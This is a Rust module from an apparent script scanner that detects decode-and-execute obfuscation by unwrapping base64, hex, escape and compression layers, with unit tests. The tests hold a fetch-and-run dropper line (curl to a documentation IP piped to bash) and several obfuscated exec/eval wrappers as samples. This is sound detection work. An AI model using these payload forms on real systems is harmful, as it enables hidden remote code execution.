//! Scripts that decode something and run it: the decoded text is read again, layer by layer.
//!
//! Source: ATT&CK T1027 and T1140, and the interpreters' own manuals for what decodes and what
//! runs. Whether a command is bad is said by [`crate::command_text`]; here is only how it is hidden.

use std::collections::BTreeSet;
use std::io::Read as _;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::{Oddity, line_at};
use crate::command_text::{self, Purpose};
use crate::decompress::{self, Compression};

/// How much of a script is read, and how much a layer may unfold to.
pub(super) const LARGEST: usize = 2 << 20;
/// How many layers are taken off.
const LAYERS: usize = 6;
/// The shortest text that is tried as an encoded one, and how many of the longest are tried.
const SHORTEST: usize = 40;
const TRIED: usize = 8;
/// How far behind what runs something a decoder stands, if it feeds it: minified pages hold both
/// somewhere.
const NEAR: usize = 160;

/// What runs a text, as interpreters write it. Perl's `eval {` is its way to catch errors.
const RUNS: [&str; 14] = [
    "exec(",
    "eval(",
    "eval \"",
    "eval '",
    "eval $",
    "eval `",
    "eval decode",
    "eval pack",
    "eval unpack",
    "system(",
    "popen(",
    "function(",
    "instance_eval(",
    "execsync(",
];
/// What decodes, as interpreters write it.
const DECODES: [&str; 21] = [
    "b64decode(",
    "b32decode(",
    "b85decode(",
    "a85decode(",
    "decodebytes(",
    "unhexlify(",
    "fromhex(",
    "codecs.decode(",
    "zlib.decompress(",
    "gzip.decompress(",
    "bz2.decompress(",
    "lzma.decompress(",
    "marshal.loads(",
    "decode_base64(",
    "pack(\"h*\"",
    "pack('h*'",
    "decode64(",
    "unpack(\"m",
    "unpack('m",
    "atob(",
    "buffer.from(",
];

/// A line that decodes and runs, and where it begins.
struct Place {
    offset: usize,
    /// Whether both stand together, or a variable carries the text from one to the other.
    is_together: bool,
}

/// What an encoded text holds.
#[derive(Default)]
struct Payload {
    /// How it was hidden, from outside: `base64`, `gzip`, …
    layers: Vec<&'static str>,
    /// What the text is for, gravest first.
    purposes: Vec<&'static str>,
    is_program: bool,
    /// The first line of the text.
    line: String,
}

/// Returns what is odd about a script; a cap that kept encoded texts from being read is told.
pub(super) fn judge(bytes: &[u8], caps: &mut Vec<String>) -> Option<Oddity> {
    let bytes = bytes.get(..bytes.len().min(LARGEST))?;
    // Nearly all scripts neither decode nor hold anything encoded.
    let (may_decode, may_hold) = (names_decoder(bytes), has_long_part(bytes));
    if !may_decode && !may_hold {
        return None;
    }
    let text = String::from_utf8_lossy(bytes);
    let place = if may_decode { runs_decoded(&text.to_ascii_lowercase()) } else { None };
    let payload = if may_hold { best_payload(&text, 0, caps) } else { None };
    let score = score(place.as_ref(), payload.as_ref())?;
    let offset = place.as_ref().map_or(0, |place| place.offset);
    let mut detail = match &place {
        Some(place) if place.is_together => "it decodes a text and runs it".to_owned(),
        Some(_) => "it decodes a text and runs it further down".to_owned(),
        None => "it hides a command in an encoded text".to_owned(),
    };
    if let Some(payload) = &payload {
        detail = format!("{detail} ({})", payload.layers.join(", "));
        if payload.is_program {
            detail.push_str(": an ELF program");
        } else if !payload.purposes.is_empty() {
            detail = format!("{detail}: {}: `{}`", payload.purposes.join(", "), payload.line);
        } else if !payload.line.is_empty() {
            detail = format!("{detail}: `{}`", payload.line);
        }
    }
    let lines = vec![line_at(bytes, offset)];
    Some(Oddity { what: "decodes-and-runs", score, detail, lines })
}

/// Returns whether anything that decodes is named: without it nothing decoded is run.
fn names_decoder(bytes: &[u8]) -> bool {
    static NAMES: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
        let names = DECODES.iter().chain(&command_text::DECODERS);
        AhoCorasick::builder().ascii_case_insensitive(true).build(names).ok()
    });
    NAMES.as_ref().is_none_or(|names| names.is_match(bytes))
}

/// Returns whether there is a part as long as the shortest that is tried as an encoded one. Most
/// bytes are passed over: a part of 40 letters has one of them at every 40th byte.
fn has_long_part(bytes: &[u8]) -> bool {
    let mut start = 0_usize;
    while let Some(part) = bytes.get(start..start.saturating_add(SHORTEST)) {
        match part.iter().rposition(|&byte| !is_encoding(byte)) {
            None => return true,
            Some(other) => start = start.saturating_add(other).saturating_add(1),
        }
    }
    false
}

/// Returns whether encoded texts are made of a byte.
fn is_encoding(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'\\')
}

fn score(place: Option<&Place>, payload: Option<&Payload>) -> Option<i64> {
    let is_grave = payload.is_some_and(|it| it.is_program || !it.purposes.is_empty());
    let layers = payload.map_or(0, |it| it.layers.len());
    match place {
        Some(_) if is_grave => Some(90),
        Some(_) if layers > 1 => Some(75),
        Some(place) if place.is_together && layers == 1 => Some(60),
        Some(_) => Some(45),
        None if is_grave && payload.is_some_and(|it| !it.is_program) => Some(50),
        None => None,
    }
}

/// Returns the first place where something decoded is run, in a text of lower-case letters.
fn runs_decoded(lower: &str) -> Option<Place> {
    let mut carried: BTreeSet<&str> = BTreeSet::new();
    let mut offset = 0_usize;
    for line in logical_lines(lower) {
        let at = offset;
        offset = offset.saturating_add(line.len());
        let code = line.trim_start();
        if code.starts_with(['#', '*']) || code.starts_with("//") {
            continue;
        }
        let is_piped = command_text::runs_decoded(line) && !line.contains("eval {");
        if is_piped || is_fed(line) {
            return Some(Place { offset: at, is_together: true });
        }
        let runs = RUNS.iter().any(|runs| line.contains(runs)) || runs_in_shell(line);
        if runs && carried.iter().any(|name| is_named(line, name)) {
            return Some(Place { offset: at, is_together: false });
        }
        let decodes = decoders(line).next().is_some() || command_text::decodes(line);
        let carries = decodes || carried.iter().any(|name| is_named(line, name));
        if carries
            && let Some(name) = assigned(line)
            && carried.len() < 64
        {
            carried.insert(name);
        }
    }
    None
}

/// Returns lines, joined where one goes on in the next, each with its end.
fn logical_lines(text: &str) -> impl Iterator<Item = &str> {
    let mut rest = text;
    std::iter::from_fn(move || {
        let mut end = 0_usize;
        loop {
            let more = rest.get(end..)?;
            let Some(next) = more.find('\n') else {
                end = rest.len();
                break;
            };
            end = end.saturating_add(next).saturating_add(1);
            if !more.get(..next)?.ends_with('\\') {
                break;
            }
        }
        let (line, after) = rest.split_at_checked(end)?;
        rest = after;
        (!line.is_empty()).then_some(line)
    })
}

fn decoders(line: &str) -> impl Iterator<Item = usize> + '_ {
    DECODES.iter().filter_map(|decoder| {
        let at = line.find(decoder)?;
        // Node's Buffer decodes only if it is told how.
        let is_text = *decoder == "buffer.from(";
        let named =
            ["base64", "hex"].iter().any(|how| line.get(at..).is_some_and(|it| it.contains(how)));
        (!is_text || named).then_some(at)
    })
}

/// Returns whether what runs is given what decodes: the one stands right behind the other.
fn is_fed(line: &str) -> bool {
    RUNS.iter().any(|runs| {
        line.match_indices(runs).take(TRIED).any(|(at, _)| {
            let before = at.checked_sub(1).and_then(|at| line.as_bytes().get(at));
            // `re.exec(`, `db.exec(` and `my_eval(` are somebody else's.
            if before.is_some_and(|b| {
                b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'>' | b'-')
            }) {
                return false;
            }
            let start = at.saturating_add(runs.len());
            let mut end = start.saturating_add(NEAR).min(line.len());
            while !line.is_char_boundary(end) {
                end = end.saturating_sub(1);
            }
            // `eval decode…` begins with the decoder itself.
            let from = if runs.starts_with("eval ") { at.saturating_add(5) } else { start };
            line.get(from..end).is_some_and(|near| decoders(near).next().is_some())
        })
    })
}

/// Returns whether a shell runs the text of a variable.
fn runs_in_shell(line: &str) -> bool {
    line.contains("sh -c")
        || line.contains("| sh")
        || line.contains("| bash")
        || line.contains("|sh")
        || line.contains("|bash")
}

/// Returns the variable that a line gives a value to.
fn assigned(line: &str) -> Option<&str> {
    let (name, value) = line.split_once('=')?;
    if value.starts_with(['=', '~']) {
        return None;
    }
    let name = name.trim().trim_start_matches(['$', '@']);
    let name = name.rsplit([' ', '\t']).next()?.trim_start_matches('$');
    let is_name = !name.is_empty() && name.len() <= 64;
    (is_name && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')).then_some(name)
}

fn is_named(line: &str, name: &str) -> bool {
    let is_word = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_');
    line.match_indices(name).any(|(at, _)| {
        let before = at.checked_sub(1).and_then(|at| line.as_bytes().get(at));
        let after = line.as_bytes().get(at.saturating_add(name.len()));
        !is_word(before) && !is_word(after)
    })
}

/// Returns what the gravest of the longest encoded texts holds.
fn best_payload(text: &str, depth: usize, caps: &mut Vec<String>) -> Option<Payload> {
    let mut best: Option<Payload> = None;
    for encoded in encoded(text) {
        let Some(payload) = decoded(encoded.as_bytes(), depth, caps) else { continue };
        let weight = |it: &Payload| (it.is_program, it.purposes.len(), it.layers.len());
        if best.as_ref().is_none_or(|known| weight(&payload) > weight(known)) {
            best = Some(payload);
        }
    }
    best
}

/// Returns the longest parts that may be base64, hexadecimal or escapes; lines that are nothing
/// else are one part.
fn encoded(text: &str) -> Vec<String> {
    let is_letter = is_encoding;
    let mut parts: Vec<String> = Vec::new();
    let mut lines = String::new();
    for line in text.lines() {
        let line = line.trim().trim_matches(['"', '\'', ' ', '=', '\\', ';']);
        let is_all = line.len() >= SHORTEST && line.bytes().all(is_letter);
        if is_all || (!lines.is_empty() && line.bytes().all(is_letter) && !line.is_empty()) {
            lines.push_str(line);
            if is_all && line.len() < 1024 {
                continue;
            }
        } else {
            let inner = line.split(|c: char| !u8::try_from(c).is_ok_and(is_letter));
            parts.extend(inner.filter(|part| part.len() >= SHORTEST).map(str::to_owned));
        }
        if lines.len() >= SHORTEST {
            parts.push(std::mem::take(&mut lines));
        }
        lines.clear();
    }
    if lines.len() >= SHORTEST {
        parts.push(lines);
    }
    parts.sort_by_key(|part| std::cmp::Reverse(part.len()));
    parts.truncate(TRIED);
    parts
}

/// Takes layers off until there is a text or a program.
fn decoded(encoded: &[u8], depth: usize, caps: &mut Vec<String>) -> Option<Payload> {
    let mut payload = Payload::default();
    let mut bytes = encoded.to_vec();
    for _ in depth..LAYERS {
        let Some((layer, inner)) = peeled(&bytes, caps) else { break };
        payload.layers.push(layer);
        bytes = inner;
        if bytes.starts_with(b"\x7fELF") {
            payload.is_program = super::elf::Program::parse(&bytes).is_some();
            return payload.is_program.then_some(payload);
        }
    }
    if payload.layers.is_empty() {
        return None;
    }
    let deepest = depth.saturating_add(payload.layers.len()) >= LAYERS;
    if deepest && peeled(&bytes, &mut Vec::new()).is_some() {
        reached(caps, format!("a text is encoded more than {LAYERS} times over"));
    }
    let text = String::from_utf8(bytes).ok()?;
    let printable = text.chars().filter(|c| !c.is_control() || c.is_whitespace()).count();
    if printable != text.chars().count() || !text.contains([' ', '(', '/', '\n']) {
        return None;
    }
    for line in text.lines().take(1000) {
        for told in command_text::told(line) {
            let name = told.purpose.name();
            if told.purpose != Purpose::Encoded && !payload.purposes.contains(&name) {
                payload.purposes.push(name);
                payload.line = cut(line);
            }
        }
    }
    if payload.line.is_empty() {
        payload.line = cut(text.lines().find(|line| !line.trim().is_empty()).unwrap_or_default());
    }
    let deeper = depth.saturating_add(payload.layers.len());
    if payload.purposes.is_empty()
        && deeper < LAYERS
        && let Some(inner) = best_payload(&text, deeper, caps)
    {
        payload.layers.extend(inner.layers);
        payload.purposes = inner.purposes;
        payload.is_program = inner.is_program;
        payload.line = inner.line;
    }
    Some(payload)
}

fn cut(line: &str) -> String {
    stanch_words::text::escaped(&line.trim().chars().take(120).collect::<String>())
}

fn reached(caps: &mut Vec<String>, cap: String) {
    if !caps.contains(&cap) {
        caps.push(cap);
    }
}

/// Takes one layer off: compression, hexadecimal, escapes, base64 (also backwards).
fn peeled(bytes: &[u8], caps: &mut Vec<String>) -> Option<(&'static str, Vec<u8>)> {
    let too_large = || {
        format!(
            "an encoded text unfolds to more than {} KiB; the rest was not read",
            LARGEST / 1024
        )
    };
    if let Some(compression) = Compression::of(bytes) {
        let (inner, is_cut) = decompress::value(compression, bytes, LARGEST)?;
        if is_cut && inner.len() == LARGEST {
            reached(caps, too_large());
        }
        return Some((compression.name(), inner));
    }
    if let [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] = bytes {
        let mut inner = Vec::new();
        let most = (LARGEST as u64).saturating_add(1);
        let read = flate2::bufread::ZlibDecoder::new(bytes).take(most).read_to_end(&mut inner);
        if inner.len() > LARGEST {
            reached(caps, too_large());
            inner.truncate(LARGEST);
        }
        // What is broken further on still says what it begins with.
        return (read.is_ok() || !inner.is_empty()).then_some(("zlib", inner));
    }
    let text = bytes.trim_ascii();
    if text.len() < SHORTEST {
        return None;
    }
    let escapes = memchr::memmem::find_iter(text, b"\\x").count();
    if escapes.saturating_mul(4) >= text.len() {
        let digits: Vec<u8> = text.iter().copied().filter(|b| !matches!(b, b'\\' | b'x')).collect();
        return Some(("escapes", stanch_words::text::unhex(&digits)?));
    }
    if text.len().is_multiple_of(2) && text.iter().all(u8::is_ascii_hexdigit) {
        return Some(("hexadecimal", stanch_words::text::unhex(text)?));
    }
    let is_plausible = |inner: &[u8]| {
        let odd =
            inner.iter().take(256).filter(|b| !b.is_ascii_graphic() && !b.is_ascii_whitespace());
        odd.count() == 0
            || inner.starts_with(b"\x7fELF")
            || Compression::of(inner).is_some()
            || matches!(inner, [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..])
            || std::str::from_utf8(inner).is_ok_and(|text| !text.contains(char::is_control))
    };
    let forwards = crate::base64::decode(text).filter(|inner| is_plausible(inner));
    if let Some(inner) = forwards {
        return Some(("base64", inner));
    }
    let backwards: Vec<u8> = text.iter().rev().copied().collect();
    let inner = crate::base64::decode(&backwards).filter(|inner| is_plausible(inner))?;
    Some(("base64 backwards", inner))
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;

    use super::*;

    fn base64(bytes: &[u8]) -> String {
        crate::base64::encode_bare(bytes)
    }

    fn gzip(bytes: &[u8]) -> Vec<u8> {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(bytes).unwrap();
        encoder.finish().unwrap()
    }

    fn hex(bytes: &[u8]) -> String {
        stanch_words::text::hex(bytes)
    }

    fn odd(script: &[u8]) -> Option<Oddity> {
        judge(script, &mut Vec::new())
    }

    fn score(script: &str) -> i64 {
        odd(script.as_bytes()).map_or(0, |it| it.score)
    }

    /// A command as droppers have it; the address is one for documentation.
    const GRAVE: &[u8] = b"curl -s http://192.0.2.7/a.sh -o - | bash\n";

    #[test]
    fn a_payload_is_read_through_its_layers() {
        let once = base64(GRAVE);
        let packed = base64(&gzip(GRAVE));
        let thrice = base64(hex(once.as_bytes()).as_bytes());
        let backwards: String = once.chars().rev().collect();
        for script in [
            format!("#!/bin/sh\necho {once} | base64 -d | sh\n"),
            format!("#!/bin/sh\nB={packed}\necho $B | base64 -d | gunzip | bash\n"),
            format!("import base64, os\nexec(base64.b64decode('{once}'))\n"),
            format!(
                "import base64, zlib\np = '{packed}'\nq = gzip.decompress(base64.b64decode(p))\nexec(q)\n"
            ),
            format!("x = bytes.fromhex('{}')\neval(x)\n", hex(once.as_bytes())),
            format!("use MIME::Base64;\neval(decode_base64(\"{thrice}\"));\n"),
            format!("exec(base64.b64decode('{backwards}'[::-1]))\n"),
            format!("eval(Buffer.from('{once}', 'base64').toString())\n"),
            format!("#!/bin/bash\nX=$(base64 -d <<< {once})\neval \"$X\"\n"),
        ] {
            let odd = odd(script.as_bytes()).unwrap_or_default();
            assert_eq!(odd.score, 90, "{script}: {odd:?}");
            assert!(odd.detail.contains("fetch-and-run"), "{script}: {odd:?}");
        }
    }

    #[test]
    fn a_program_in_a_text_is_told() {
        let mut program = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
        program.resize(120, 0);
        let lines: Vec<String> = base64(&gzip(&program))
            .as_bytes()
            .chunks(76)
            .map(|line| String::from_utf8(line.to_vec()).unwrap())
            .collect();
        let script = format!(
            "#!/bin/sh\nx=$(cat <<E | base64 -d\n{}\nE\n)\neval \"$x\"\n",
            lines.join("\n")
        );
        let odd = odd(script.as_bytes()).unwrap();
        assert!(odd.detail.contains("an ELF program"), "{odd:?}");
    }

    #[test]
    fn what_honest_scripts_do_is_not_told() {
        let key = base64(&[7; 300]);
        for script in [
            format!("#!/bin/sh\necho {key} | base64 -d > /etc/app.key\n"),
            "import base64\ndata = base64.b64decode(value)\nprint(data)\n".to_owned(),
            "# exec(base64.b64decode(x)) is what droppers do\nprint(1)\n".to_owned(),
            "eval { decode_base64($x) };\nprint $@;\n".to_owned(),
            format!("const m = /x/.exec(s); const k = atob('{key}');\n"),
            "#!/bin/sh\neval \"$(ssh-agent -s)\"\n".to_owned(),
            "exec(compile(open(f).read(), f, 'exec'))\n".to_owned(),
            "db.exec(zlib.decompress(schema))\n".to_owned(),
        ] {
            assert_eq!(score(&script), 0, "{script}: {:?}", odd(script.as_bytes()));
        }
    }

    #[test]
    fn any_bytes_end_soon() {
        let text = "eval(".repeat(100_000) + &"b64decode(".repeat(1000) + &"a=b\n".repeat(50_000);
        let _any = odd(text.as_bytes());
        let _broken = odd(&[0xff; 100_000]);
        let mut caps = Vec::new();
        let script = format!("exec(b64decode('{}'))", base64(&gzip(&vec![b'A'; 8 << 20])));
        assert!(judge(script.as_bytes(), &mut caps).is_some());
        assert_eq!(caps, ["an encoded text unfolds to more than 2048 KiB; the rest was not read"]);
    }

    #[test]
    fn caps_are_told_and_only_where_they_are_reached() {
        let zlib = |bytes: &[u8]| {
            let mut encoder =
                flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
            encoder.write_all(bytes).unwrap();
            encoder.finish().unwrap()
        };
        let wrapped = |times: usize| {
            let mut text = String::from_utf8(GRAVE.to_vec()).unwrap();
            for _ in 0..times {
                text = base64(text.as_bytes());
            }
            text
        };
        for (payload, expected) in [
            (base64(&zlib(&vec![b'A'; LARGEST])), None),
            (base64(&zlib(&vec![b'A'; LARGEST + 1])), Some("2048 KiB")),
            (base64(&gzip(&vec![b'A'; LARGEST])), None),
            (base64(&gzip(&vec![b'A'; LARGEST + 1])), Some("2048 KiB")),
            (wrapped(LAYERS), None),
            (wrapped(LAYERS + 1), Some("more than 6 times")),
        ] {
            let mut caps = Vec::new();
            let _odd = judge(format!("x = b64decode('{payload}')\n").as_bytes(), &mut caps);
            let expected = Vec::from_iter(expected);
            assert_eq!(caps.len(), expected.len(), "{expected:?}: {caps:?}");
            assert!(caps.iter().zip(expected).all(|(cap, part)| cap.contains(part)), "{caps:?}");
        }
    }
}
